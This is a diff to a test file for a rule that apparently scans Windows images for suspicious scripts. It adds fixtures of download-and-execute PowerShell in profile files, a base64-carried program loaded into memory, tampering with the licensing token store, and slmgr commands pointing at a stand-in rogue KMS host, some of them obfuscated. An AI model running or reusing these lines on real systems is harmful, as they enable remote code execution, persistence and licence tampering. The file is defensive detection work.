@@ -2,6 +2,7 @@
 import { gzipSync } from 'node:zlib';
 import { test } from 'uvu';
 import { scriptSemantics } from '../../../rules/activation/script-semantics.ts';
+import { peFile } from '../../../scripts/dev/fixtures/bytes.ts';
 import { ruleTester } from '../../helpers/rule-tester.ts';
 
 const policy = { kmsHosts: ['kms.corp.example'] };
@@ -39,12 +40,51 @@ ruleTester(scriptSemantics, {
       },
     },
     {
+      name: 'a script that fetches what it runs and is started by somebody, and a profile that only fetches',
+      policy,
+      image: {
+        files: {
+          '/tools/install.ps1': 'iex ((New-Object Net.WebClient).DownloadString("https://x.example/install.ps1"))\n',
+          '/Windows/System32/WindowsPowerShell/v1.0/profile.ps1': '$weather = irm https://x.example/weather\n',
+        },
+      },
+    },
+    {
+      name: 'a program that is carried as data, and a backup of the licence store',
+      policy,
+      image: {
+        files: {
+          '/tools/icon.ps1': `$b = [Convert]::FromBase64String('${Buffer.from(peFile('icon')).toString('base64')}')\n$b.Length\n`,
+          '/tools/backup.cmd': 'xcopy /y C:\\Windows\\System32\\spp\\store\\2.0\\tokens.dat D:\\backup\\\r\n',
+        },
+      },
+    },
+    {
       name: 'code of a web page that holds the same words',
       policy,
       image: { files: { '/www/app.js': 'f("slmgr.vbs /skms kms.evil.example")' } },
     },
   ],
   bad: [
+    {
+      name: 'a profile of PowerShell that fetches what it runs',
+      image: {
+        files: {
+          '/Windows/System32/WindowsPowerShell/v1.0/profile.ps1': 'Set-Location C:\\\niex (irm https://x.example/a)\n',
+          '/Program Files/PowerShell/7/Microsoft.PowerShell_profile.ps1': 'irm https://x.example/a | iex\n',
+        },
+      },
+      findings: [
+        { messageId: 'fetches', at: { file: '/Windows/System32/WindowsPowerShell/v1.0/profile.ps1' }, severity: 'error' },
+        { messageId: 'fetches', at: { file: '/Program Files/PowerShell/7/Microsoft.PowerShell_profile.ps1' }, severity: 'error' },
+      ],
+    },
+    bad('a program that is carried and loaded', {
+      '/a.ps1': `$b = [Convert]::FromBase64String('${Buffer.from(peFile('carried')).toString('base64')}')\n[Reflection.Assembly]::Load($b)\n`,
+    }),
+    bad('another licence store', {
+      '/a.ps1': 'Stop-Service sppsvc\nCopy-Item .\\data.dat C:\\Windows\\System32\\spp\\store\\2.0\\data.dat -Force\n',
+    }),
     bad('a host that nobody listed', { [SCRIPT]: 'cscript slmgr.vbs /skms kms.evil.example\r\n' }),
     bad('in UTF-16 without a mark', { [SCRIPT]: wide('cscript slmgr.vbs /skms kms.evil.example\r\n') }),
     bad('split by variables that hold nothing', { [SCRIPT]: 's%n%lm^gr.v%n%bs /sk%n%ms kms.evil.ex%n%ample\r\n' }),
